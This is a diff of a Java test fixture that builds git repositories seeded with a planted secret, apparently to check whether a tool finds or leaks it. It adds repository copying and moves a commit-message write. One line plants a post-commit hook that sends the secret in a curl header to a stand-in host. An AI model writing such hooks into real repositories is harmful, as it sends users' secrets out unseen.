@@ -5,7 +5,9 @@ import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
+import java.nio.file.LinkOption;
 import java.nio.file.Path;
+import java.nio.file.StandardCopyOption;
 import java.security.MessageDigest;
 import java.util.ArrayList;
 import java.util.Base64;
@@ -24,17 +26,53 @@ final class Planted {
   final Path root;
   final String value;
 
-  Planted(Path root, long seed) {
+  private Planted(Path root, String value) {
     this.root = root;
-    var random = new Random(seed);
-    this.value =
-        "k3y_"
-            + random
-                .ints(24, 0, 62)
-                .mapToObj(i ->
-                    String.valueOf(
-                        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789".charAt(i)))
-                .reduce("", String::concat);
+    this.value = value;
+  }
+
+  Planted(Path root, long seed) {
+    this(root, value(new Random(seed)));
+  }
+
+  private static String value(Random random) {
+    return "k3y_"
+        + random
+            .ints(24, 0, 62)
+            .mapToObj(i ->
+                String.valueOf(
+                    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789".charAt(i)))
+            .reduce("", String::concat);
+  }
+
+  /// The same once more at another place: making one takes some hundred calls of git. Linked work
+  /// trees come along.
+  Planted copied(Path to) throws IOException {
+    var copy = new Planted(to, value);
+    var linked = root.resolveSibling(root.getFileName() + "-linked");
+    copy(root, to);
+    if (Files.exists(linked)) {
+      var other = to.resolveSibling(to.getFileName() + "-linked");
+      copy(linked, other);
+      Files.writeString(
+          other.resolve(".git"), "gitdir: " + to.resolve(".git/worktrees/" + linked.getFileName()));
+      Files.writeString(
+          to.resolve(".git/worktrees/" + linked.getFileName() + "/gitdir"),
+          other.resolve(".git") + "\n");
+    }
+    return copy;
+  }
+
+  private static void copy(Path from, Path to) throws IOException {
+    try (var walk = Files.walk(from)) {
+      for (var path : walk.toList()) {
+        Files.copy(
+            path,
+            to.resolve(from.relativize(path).toString()),
+            LinkOption.NOFOLLOW_LINKS,
+            StandardCopyOption.COPY_ATTRIBUTES);
+      }
+    }
   }
 
   byte[] bytes() {
@@ -191,7 +229,6 @@ final class Planted {
     file("staged.txt", "staged " + value + "\n");
     git("add", "staged.txt");
     file(".git/hooks/post-commit", "#!/bin/sh\ncurl -H 'X: " + value + "' https://h\n");
-    file(".git/COMMIT_EDITMSG", "draft " + value + "\n");
     file(".git/info/exclude", "# " + value + "\n");
     var large = "large file " + value + "\n";
     var id = sha256(large);
@@ -205,6 +242,7 @@ final class Planted {
             + "\n");
     git("add", "asset.bin");
     git("commit", "-q", "-m", "an asset, and what was staged");
+    file(".git/COMMIT_EDITMSG", "draft " + value + "\n");
   }
 
   private void gitIn(String suffix, String... words) {
